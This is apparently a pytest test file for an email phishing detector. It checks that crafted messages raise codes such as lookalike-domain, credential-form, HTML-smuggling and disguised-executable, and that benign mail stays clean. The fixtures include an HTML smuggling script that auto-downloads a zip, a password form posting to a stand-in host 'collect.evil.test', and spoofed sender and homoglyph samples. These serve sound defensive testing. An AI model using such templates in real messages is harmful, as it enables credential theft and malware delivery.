"""Data-driven signal cases: messages that must raise a code, and messages that must stay clean."""

from __future__ import annotations

import base64
import io
import zipfile

import pytest
from mail_helpers import ORG, eml

from shoreup.detect.mail import triage

_SMUGGLE = (
    "<html><script>var b=atob('UEsDBAoAAAAAAA==');var u=new Uint8Array(b.length);"
    "var blob=new Blob([u]);var a=document.createElement('a');a.href=URL.createObjectURL(blob);"
    "a.download='x.zip';a.click();</script></html>"
)
_HARVEST = '<form action="https://collect.evil.test/p.php"><input type="password" name="p"></form>'


def _word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def _zip(files: dict[str, bytes], encrypt_flag: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    raw = bytearray(buf.getvalue())
    if encrypt_flag:  # set the "encrypted" bit in local and central headers
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            i = raw.find(sig)
            while i >= 0:
                raw[i + off] |= 1
                i = raw.find(sig, i + 4)
    return bytes(raw)


def _attach(name: str, data: bytes, ctype: str = "application/octet-stream", body: str = "See attached.") -> bytes:
    b64 = base64.encodebytes(data).decode()
    mime = (
        f"--B\nContent-Type: text/plain\n\n{body}\n--B\nContent-Type: {ctype}; name=\"{name}\"\n"
        f"Content-Disposition: attachment; filename=\"{name}\"\nContent-Transfer-Encoding: base64\n\n{b64}\n--B--\n"
    )
    return eml(mime, content_type='multipart/mixed; boundary="B"')


FLAG: list[tuple[str, bytes, bool, str]] = [
    # (case, message, with org config, expected code)
    ("dmarc fail", eml(auth="spf=fail smtp.mailfrom=x.org; dkim=none; dmarc=fail header.from=partner.org"), False, "DMARC_FAIL"),
    ("compauth", eml(auth="spf=none; dkim=none; dmarc=none; compauth=fail reason=001"), False, "COMPAUTH_FAIL"),
    ("spf softfail", eml(auth="spf=softfail smtp.mailfrom=partner.org"), False, "SPF_SOFTFAIL"),
    ("dkim fail", eml(auth="dkim=fail header.d=partner.org"), False, "DKIM_FAIL"),
    ("arc fail", eml(auth="arc=fail; spf=pass"), False, "ARC_FAIL"),
    (
        "org spoof",
        eml(sender="Dana Whitfield <dana.whitfield@example.com>",
            auth="spf=fail smtp.mailfrom=example.com; dmarc=fail header.from=example.com"),
        True,
        "ORG_DOMAIN_SPOOF",
    ),
    ("reply-to freemail", eml(headers="Reply-To: boss.office@gmail.com"), False, "REPLY_TO_FREEMAIL"),
    ("reply-to other", eml(headers="Reply-To: someone@elsewhere.net"), False, "REPLY_TO_DIVERGES"),
    ("address in name", eml(sender='"security@paypal.com" <x@mailer.test.io>'), False, "DISPLAY_NAME_ADDRESS"),
    ("invalid domain", eml(sender="Alerta <alerta@regularizacao448526>"), False, "INVALID_SENDER_DOMAIN"),
    ("tenant", eml(sender="Billing <b@contoso123.onmicrosoft.com>"), False, "SENDER_ON_TENANT_PLATFORM"),
    ("ceo name", eml(sender="Dana Whitfield <dana.w.ceo@gmail.com>"), True, "EXECUTIVE_IMPERSONATION"),
    ("staff name", eml(sender="Novak, Lena <lnovak@mail.test.io>"), True, "PERSON_IMPERSONATION"),
    ("org name", eml(sender="Example Corp IT Desk <it@helpdesk-portal.io>"), True, "ORG_NAME_IMPERSONATION"),
    ("brand name", eml(sender="Microsoft account team <no-reply@access-secure.io>"), False, "BRAND_IMPERSONATION"),
    ("brand homoglyph name", eml(sender=_word("P\u0430yP\u0430l Service") + " <a@b.io>"), False, "BRAND_IMPERSONATION"),
    ("org lookalike", eml(sender="IT <it@exarnple.com>"), True, "LOOKALIKE_ORG_DOMAIN"),
    ("org digit swap link", eml("Go to https://examp1e.com/login now"), True, "LOOKALIKE_ORG_DOMAIN"),
    ("org tld swap", eml(sender="IT <it@example.co>"), True, "LOOKALIKE_ORG_DOMAIN"),
    ("brand typo", eml(sender="PayPal <service@paypa1.com>"), False, "LOOKALIKE_BRAND_DOMAIN"),
    ("brand idn", eml("Visit https://xn--pypal-4ve.com/ now"), False, "LOOKALIKE_BRAND_DOMAIN"),
    ("brand subdomain", eml("https://paypal.com.account-check.ru/login"), False, "LOOKALIKE_BRAND_DOMAIN"),
    ("brand combo", eml(sender="Billing <bill@netflix-billing-update.com>"), False, "LOOKALIKE_BRAND_DOMAIN"),
    ("link text", eml('<a href="https://evil.test.io/x">https://www.chase.com/</a>', content_type="text/html"), False,
     "LINK_TEXT_MISMATCH"),
    ("raw ip", eml("Open http://203.0.113.9/login.php"), False, "LINK_RAW_IP"),
    ("userinfo", eml("Open https://paypal.com@203.0.113.9/"), False, "LINK_USERINFO"),
    ("shortener", eml("Open https://bit.ly/3xYz"), False, "LINK_SHORTENER"),
    ("free hosting", eml("Open https://acme-login.weebly.com/"), False, "LINK_FREE_HOSTING"),
    ("storage page", eml("Open https://storage.googleapis.com/bkt/index.html#x"), False, "LINK_CLOUD_STORAGE"),
    ("data uri link", eml('<a href="data:text/html;base64,PGgxPg==">Open</a>', content_type="text/html"), False,
     "LINK_DATA_URI"),
    ("harvest body", eml("<form><input type=password name=p></form>", content_type="text/html"), False, "CREDENTIAL_FORM"),
    ("harvest attachment", _attach("doc.html", _HARVEST.encode(), "text/html"), False, "CREDENTIAL_FORM_OFFSITE"),
    ("smuggling", _attach("view.html", _SMUGGLE.encode(), "text/html"), False, "HTML_SMUGGLING"),
    ("smuggling body", eml(_SMUGGLE, content_type="text/html"), False, "HTML_SMUGGLING"),
    ("redirect attachment", _attach("a.htm", b"<script>window.location='https://x.test.io'</script>", "text/html"),
     False, "HTML_REDIRECT"),
    ("iso", _attach("Invoice.iso", b"\x00" * 100), False, "ATTACHMENT_EXECUTABLE"),
    ("lnk in zip", _attach("docs.zip", _zip({"Invoice.pdf.lnk": b"L\x00\x00\x00"})), False, "ATTACHMENT_EXECUTABLE"),
    ("hta", _attach("update.hta", b"<script>x</script>"), False, "ATTACHMENT_EXECUTABLE"),
    ("exe disguised", _attach("scan.pdf", b"MZ\x90\x00" + b"\x00" * 60), False, "ATTACHMENT_EXECUTABLE"),
    ("double ext", _attach("invoice.pdf.js", b"WScript.Shell"), False, "DOUBLE_EXTENSION"),
    ("rtlo", _attach("report\u202efdp.exe", b"MZ"), False, "DOUBLE_EXTENSION"),
    ("encrypted zip", _attach("secure.zip", _zip({"a.txt": b"x"}, encrypt_flag=True)), False, "ENCRYPTED_ATTACHMENT"),
    ("macro docm", _attach("Invoice.docm", _zip({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})), False,
     "OFFICE_MACRO"),
    ("pdf js", _attach("a.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
     False, "PDF_ACTIVE_CONTENT"),
    ("rar", _attach("a.rar", b"Rar!\x1a\x07\x01\x00" + b"\0" * 20), False, "ARCHIVE_OPAQUE"),
    ("lure account", eml("Your account has been suspended."), False, "LURE_ACCOUNT_THREAT"),
    ("lure creds pt", eml("Por favor atualize seus dados cadastrais."), False, "LURE_CREDENTIALS"),
    ("lure money", eml("Claim your reward: 500 free spins!"), False, "LURE_MONEY"),
    ("lure urgency de", eml("Letzte Mahnung vor der Sperrung."), False, "LURE_URGENCY"),
    ("disguised", eml(subject="We've bᥣoᥴkᥱd your account"), False, "DISGUISED_TEXT"),
    ("subject address", eml(subject="lena.novak@example.com your parcel"), False, "SUBJECT_HAS_ADDRESS"),
    ("two froms", eml(headers="From: other@else.io"), False, "FROM_REPEATED"),
]

CLEAN: list[tuple[str, bytes, bool]] = [
    ("plain partner mail", eml("Lunch on Friday? Menu at https://www.partner.org/menu"), False),
    ("internal with org", eml(sender="Dana Whitfield <dana.whitfield@example.com>",
                              auth="spf=pass; dkim=pass; dmarc=pass header.from=example.com"), True),
    ("brand really", eml(sender="Microsoft <no-reply@microsoft.com>", auth="spf=pass; dkim=pass; dmarc=pass"), False),
    ("mailing list reply-to", eml(headers="Reply-To: dev@lists.python.org\nList-Post: <mailto:dev@lists.python.org>"),
     False),
    ("same-org link text", eml('<a href="https://click.partner.org/t/1">www.partner.org</a>', content_type="text/html"),
     False),
    ("ordinary pdf", _attach("invoice.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj"), False),
    ("ordinary zip", _attach("photos.zip", _zip({"a.jpg": b"\xff\xd8\xff" + b"0" * 100})), False),
    ("newsletter", eml('<p>News</p><a href="https://click.partner.org/x">Read more</a>', content_type="text/html",
                       headers="List-Unsubscribe: <https://partner.org/u>"), False),
    ("ham reply-to same org", eml(headers="Reply-To: ar@partner.org"), False),
]


@pytest.mark.parametrize(("case", "data", "use_org", "code"), FLAG, ids=[c[0] for c in FLAG])
def test_flags(write, case: str, data: bytes, use_org: bool, code: str) -> None:  # type: ignore[no-untyped-def]
    report = triage([write(data)], ORG if use_org else None)
    (result,) = report.results
    codes = [r.code for r in result.reasons]
    assert code in codes, (case, [(r.code, r.detail) for r in result.reasons])
    reason = next(r for r in result.reasons if r.code == code)
    assert reason.detail.endswith("."), reason.detail


@pytest.mark.parametrize(("case", "data", "use_org"), CLEAN, ids=[c[0] for c in CLEAN])
def test_clean(write, case: str, data: bytes, use_org: bool) -> None:  # type: ignore[no-untyped-def]
    report = triage([write(data)], ORG if use_org else None)
    (result,) = report.results
    assert result.verdict == "clean", (case, [(r.code, r.detail) for r in result.reasons])
    assert result.score < 2.5, (case, [(r.code, r.detail) for r in result.reasons])


def test_every_code_is_tested() -> None:
    from shoreup.detect.mail.signals import all_codes

    tested = {c[3] for c in FLAG}
    extra = {"HOSTILE_STRUCTURE", "ARCHIVE_BOMB", "QR_CODE_LINK", "OFFICE_MACRO_AUTOEXEC", "HTML_ATTACHMENT",
             "SCRIPT_OBFUSCATION", "ENVELOPE_MISMATCH", "NO_AUTH", "SPF_FAIL", "IDN_MIXED_SCRIPT",
             "DISPLAY_NAME_HOMOGLYPH", "FROM_UNREADABLE", "LINK_ABUSED_TLD"}
    assert set(all_codes()) - tested - extra == set()
